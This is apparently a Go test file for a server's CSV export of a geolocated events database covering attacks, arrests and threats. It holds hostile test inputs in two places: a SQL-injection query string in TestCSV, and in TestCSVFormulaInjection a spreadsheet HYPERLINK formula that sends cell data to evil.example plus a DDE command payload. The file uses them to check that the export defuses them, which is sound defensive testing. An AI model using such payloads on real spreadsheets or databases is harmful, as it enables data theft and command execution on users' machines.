package server

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/westward/westward/geo"
)

var wantCSVHeader = []string{"id", "title", "date", "date_precision", "end_date", "start", "end", "kind", "actor",
	"attribution", "place", "country", "longitude", "latitude", "location_precision", "location_role", "killed", "killed_min", "killed_max",
	"injured", "injured_min", "injured_max", "detained", "detained_min", "detained_max", "sources", "tags", "summary", "notes"}

// readCSV checks rec is a CSV download and returns its rows as maps by column, after checking
// the header row.
func readCSV(tb testing.TB, rec *httptest.ResponseRecorder) []map[string]string {
	tb.Helper()
	if rec.Code != http.StatusOK {
		tb.Fatalf("status %d\n%s", rec.Code, rec.Body)
	}
	h := rec.Header()
	if got := h.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		tb.Errorf("Content-Type %q", got)
	}
	if got := h.Get("Content-Disposition"); got != `attachment; filename="westward-events.csv"` {
		tb.Errorf("Content-Disposition %q", got)
	}
	body := rec.Body.Bytes()
	if h.Get("Content-Encoding") == "gzip" {
		body = gunzip(tb, body)
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		tb.Fatalf("read CSV: %v\n%s", err, body)
	}
	if len(records) == 0 || !slices.Equal(records[0], wantCSVHeader) {
		tb.Fatalf("header %v, want %v", records[0], wantCSVHeader)
	}
	var rows []map[string]string
	for _, r := range records[1:] {
		m := map[string]string{}
		for i, col := range wantCSVHeader {
			m[col] = r[i]
		}
		rows = append(rows, m)
	}
	return rows
}

func csvIDs(rows []map[string]string) []string {
	ids := []string{}
	for _, r := range rows {
		ids = append(ids, r["id"])
	}
	return ids
}

// TestCSV checks the CSV rows of the fixture, filtered and not, by both routes.
func TestCSV(t *testing.T) {
	srv, _ := newTestServer(t)
	cases := []struct {
		name   string
		target string
		want   []string
	}{
		{"ok, items.csv", itemsPath + ".csv", allIDs},
		{"ok, items f=csv", itemsPath + "?f=csv", allIDs},
		{"ok, items.csv kind", itemsPath + ".csv?kind=attack", []string{idKabul, idKerman, idMoscow}},
		{"ok, items f=csv country", itemsPath + "?f=csv&country=IR", []string{idMashhad, idKerman}},
		{"ok, items.csv datetime and bbox", itemsPath + ".csv?datetime=2023&bbox=0,40,40,60", []string{idCologne, idIstanbul}},
		{"ok, items.csv q", itemsPath + ".csv?q=buyukdere", []string{idIstanbul}},
		{"ok, items.csv limit", itemsPath + ".csv?limit=3", []string{idKabul, idKunar, idMashhad}},
		{"ok, items.csv limit and offset", itemsPath + ".csv?limit=2&offset=6", []string{idKerman, idMoscow}},
		{"ok, items.csv no match", itemsPath + ".csv?country=US", []string{}},
		{"ok, items.csv metacharacters", itemsPath + ".csv?q=" + url.QueryEscape(`'; DROP TABLE events; --`), []string{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rows := readCSV(t, get(t, srv, tc.target))
			if got := csvIDs(rows); !slices.Equal(got, tc.want) {
				t.Errorf("ids %v, want %v", got, tc.want)
			}
		})
	}

	t.Run("ok, row values", func(t *testing.T) {
		rows := readCSV(t, get(t, srv, itemsPath+".csv"))
		byID := map[string]map[string]string{}
		for _, r := range rows {
			byID[r["id"]] = r
		}
		want := map[string]map[string]string{
			idKerman: {"title": "Kerman cemetery bombing", "date": "2024-01-03", "date_precision": "day", "end_date": "",
				"start": "2024-01-03", "end": "2024-01-03", "kind": "attack", "actor": "iskp", "attribution": "claimed",
				"place": "Kerman", "country": "IR", "longitude": "57.08", "latitude": "30.28", "location_precision": "venue",
				"location_role": "occurrence", "killed": "at least 95 to 103 killed", "injured": "284 injured",
				"killed_min": "95", "killed_max": "103", "injured_min": "284", "injured_max": "284", "detained_min": "",
				"detained_max": "", "sources": "src-a;src-b", "tags": "suicide-bombing",
				"summary": "Summary of Kerman cemetery bombing.", "notes": ""},
			idCologne: {"date": "2023", "date_precision": "year", "end_date": "2024-07", "start": "2023-01-01",
				"end": "2024-07-31", "killed_min": "", "tags": "financing"},
			idIstanbul: {"title": "Büyükdere plot foiled", "date": "2023-22", "date_precision": "season",
				"start": "2023-06-01", "end": "2023-08-31", "place": "Sarıyer, Istanbul"},
			idMashhad: {"detained_min": "5", "detained_max": "5", "killed_min": "", "sources": "src-b"},
			idKabul:   {"killed": "at least 10 to 14 killed", "killed_min": "10", "killed_max": "14", "injured_min": "20", "tags": "kabul;suicide-bombing"},
		}
		for id, cols := range want {
			for col, v := range cols {
				if got := byID[id][col]; got != v {
					t.Errorf("%s %s = %q, want %q", id, col, got, v)
				}
			}
		}
	})

	t.Run("ok, gzip", func(t *testing.T) {
		plain := get(t, srv, itemsPath+".csv")
		zipped := serve(t, srv, request{target: itemsPath + ".csv", header: map[string]string{"Accept-Encoding": "gzip"}})
		if zipped.Header().Get("Content-Encoding") != "gzip" || !strings.Contains(zipped.Header().Get("Vary"), "Accept-Encoding") {
			t.Fatalf("Content-Encoding %q Vary %q", zipped.Header().Get("Content-Encoding"), zipped.Header().Get("Vary"))
		}
		if got := gunzip(t, zipped.Body.Bytes()); !bytes.Equal(got, plain.Body.Bytes()) {
			t.Errorf("gunzipped CSV differs from the plain one")
		}
	})
}

// manyEvents returns n plain events in Afghanistan, one a day from 2016-01-01.
func manyEvents(n int) []*geo.Event {
	var out []*geo.Event
	for i := range n {
		day := geo.DayDate(geo.MustParseDate("2016-01-01").Start().AddDate(0, 0, i))
		e := event(fmt.Sprintf("event-%03d", i), fmt.Sprintf("Event number %d", i), day.String(), geo.KindArrest,
			geo.ActorUnclear, geo.AttributionAlleged, "Jalalabad", "AF", 70.45, 34.43, cite("src-a", "an arrest was reported"))
		out = append(out, e)
	}
	return out
}

// TestCSVAllMatches checks that the CSV holds every match, not the GeoJSON's default page,
// unless paging is asked for.
func TestCSVAllMatches(t *testing.T) {
	srv, db := newTestServer(t)
	const n = 250
	reload(t, db, fixtureSources(), manyEvents(n))
	cases := []struct {
		name   string
		target string
		rows   int
		first  string
	}{
		{"ok, items.csv everything", itemsPath + ".csv", n, "event-000"},
		{"ok, items f=csv everything", itemsPath + "?f=csv", n, "event-000"},
		{"ok, items.csv filtered", itemsPath + ".csv?datetime=2016-01-01/2016-06-30", 182, "event-000"},
		{"ok, items.csv limit", itemsPath + ".csv?limit=10", 10, "event-000"},
		{"ok, items.csv offset keeps the default page", itemsPath + ".csv?offset=200", 50, "event-200"},
		{"ok, items.csv offset with the default limit", itemsPath + ".csv?offset=20", geo.DefaultLimit, "event-020"},
		{"ok, items f=csv limit", itemsPath + "?f=csv&limit=7&offset=3", 7, "event-003"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rows := readCSV(t, get(t, srv, tc.target))
			if len(rows) != tc.rows || rows[0]["id"] != tc.first {
				t.Errorf("%d rows from %s, want %d from %s", len(rows), rows[0]["id"], tc.rows, tc.first)
			}
			ids := csvIDs(rows)
			if !slices.IsSorted(ids) || len(slices.Compact(slices.Clone(ids))) != len(ids) {
				t.Error("rows out of order or repeated")
			}
		})
	}
	var fc featureCollection
	getJSON(t, srv, itemsPath, "application/geo+json", &fc)
	if fc.NumberReturned != geo.DefaultLimit || fc.NumberMatched != n {
		t.Errorf("GeoJSON page: %d of %d, want %d of %d", fc.NumberReturned, fc.NumberMatched, geo.DefaultLimit, n)
	}
}

// TestAlternateCSVLinkIsThisPage fails on a bug: pageLinks (server/event.go) gives each
// page an alternate link titled "This page as CSV", but on a page fetched without limit or
// offset that link has neither, and writeCSV then exports every match (250 rows) rather than
// the page (100 features). The link should carry the page's limit.
func TestAlternateCSVLinkIsThisPage(t *testing.T) {
	srv, db := newTestServer(t)
	reload(t, db, fixtureSources(), manyEvents(250))
	var fc featureCollection
	getJSON(t, srv, itemsPath, "application/geo+json", &fc)
	alt, err := url.Parse(linkHref(fc.Links, "alternate"))
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, get(t, srv, alt.RequestURI()))
	if got := csvIDs(rows); !slices.Equal(got, fc.ids()) {
		t.Errorf("alternate CSV of the first page has %d rows, the page %d features", len(got), len(fc.ids()))
	}
}

// TestCSVFormulaInjection checks that text a spreadsheet would run as a formula is defused,
// and that numbers are not.
func TestCSVFormulaInjection(t *testing.T) {
	srv, db := newTestServer(t)
	mk := func(id, title string) *geo.Event {
		return event(id, title, "2024-02-01", geo.KindThreat, geo.ActorUnclear, geo.AttributionDisputed,
			"Kabul", "AF", 69.17, 34.53, cite("src-a", "a threat"))
	}
	hyperlink := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	events := []*geo.Event{
		mk("f-equals", hyperlink),
		mk("f-plus", "+1 more"),
		mk("f-minus", "-2 fewer"),
		mk("f-at", "@x sum"),
		mk("f-tab", "Tabbed"), // a title cannot hold a tab (geo's text limits); notes can
		mk("f-plain", "Plain = title with - + @ inside"),
		event("f-south-west", "=cmd|' /C calc'!A0", "2024-02-02", geo.KindAttack, geo.ActorIS, geo.AttributionAlleged,
			"-Lima", "PE", -77.04, -12.05, cite("src-b", "an attack in Lima")),
	}
	events[0].Summary = "=1+1"
	events[0].Notes = "@SUM(A1:A9)"
	events[1].Place = "+Kabul"
	events[4].Notes = "\tTabbed"
	reload(t, db, fixtureSources(), events)

	rows := readCSV(t, get(t, srv, itemsPath+".csv"))
	byID := map[string]map[string]string{}
	for _, r := range rows {
		byID[r["id"]] = r
	}
	cases := []struct {
		name, id, col, want string
	}{
		{"nok, =HYPERLINK title", "f-equals", "title", "'" + hyperlink},
		{"nok, = summary", "f-equals", "summary", "'=1+1"},
		{"nok, @ notes", "f-equals", "notes", "'@SUM(A1:A9)"},
		{"nok, +1 title", "f-plus", "title", "'+1 more"},
		{"nok, + place", "f-plus", "place", "'+Kabul"},
		{"nok, -2 title", "f-minus", "title", "'-2 fewer"},
		{"nok, @x title", "f-at", "title", "'@x sum"},
		{"nok, tab notes", "f-tab", "notes", "'\tTabbed"},
		{"nok, DDE title", "f-south-west", "title", "'=cmd|' /C calc'!A0"},
		{"nok, - place", "f-south-west", "place", "'-Lima"},
		{"ok, plain title untouched", "f-plain", "title", "Plain = title with - + @ inside"},
		{"ok, negative longitude is a number", "f-south-west", "longitude", "-77.04"},
		{"ok, negative latitude is a number", "f-south-west", "latitude", "-12.05"},
		{"ok, positive longitude", "f-plain", "longitude", "69.17"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, ok := byID[tc.id]
			if !ok {
				t.Fatalf("no row %s", tc.id)
			}
			if got := r[tc.col]; got != tc.want {
				t.Errorf("%s %s = %q, want %q", tc.id, tc.col, got, tc.want)
			}
		})
	}
	// The GeoJSON keeps the text as it is: the defusing is the CSV's business only.
	var f feature
	getJSON(t, srv, itemsPath+"/f-equals", "application/geo+json", &f)
	if f.Properties.Title != hyperlink {
		t.Errorf("GeoJSON title %q, want it unchanged", f.Properties.Title)
	}
}

// TestCSVRoleFilter holds the export to the role filter, and its location_role column to the
// stored role.
func TestCSVRoleFilter(t *testing.T) {
	srv, _ := newTestServer(t)
	for _, tc := range []struct {
		name, query string
		want        []string
	}{
		{"ok, role target", "role=target", []string{idHerat}},
		{"ok, role subject", "role=subject", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows := readCSV(t, get(t, srv, itemsPath+".csv?"+tc.query))
			if got := csvIDs(rows); !slices.Equal(got, tc.want) {
				t.Errorf("ids %v, want %v", got, tc.want)
			}
			for _, r := range rows {
				if r["location_role"] != "target" {
					t.Errorf("%s: location_role %q, want target", r["id"], r["location_role"])
				}
			}
		})
	}
}
